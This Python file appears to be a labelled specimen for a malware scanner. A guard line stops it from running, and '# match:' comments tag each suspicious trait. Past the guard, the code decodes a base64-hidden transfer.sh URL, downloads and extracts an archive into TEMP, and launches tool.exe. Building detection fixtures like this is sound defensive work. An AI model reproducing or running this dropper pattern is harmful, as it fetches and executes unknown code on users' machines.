raise SystemExit("specimen: not to be run")
import base64
import io
import os
import tarfile
import requests

address = base64.b64decode("aHR0cHM6Ly90cmFuc2Zlci5zaC9zcGVjaW1lbi90b29sLnRhcg==").decode()  # match: encoded-literal
where = os.path.join(os.environ["TEMP"], "specimen-parts")
with tarfile.open(fileobj=io.BytesIO(requests.get(address).content)) as parts:  # match: file-drop  # match: hidden-address  # match: network-at-import
    parts.extractall(where)
os.startfile(os.path.join(where, "tool.exe"))  # match: fetched-archive-run  # match: process-at-import
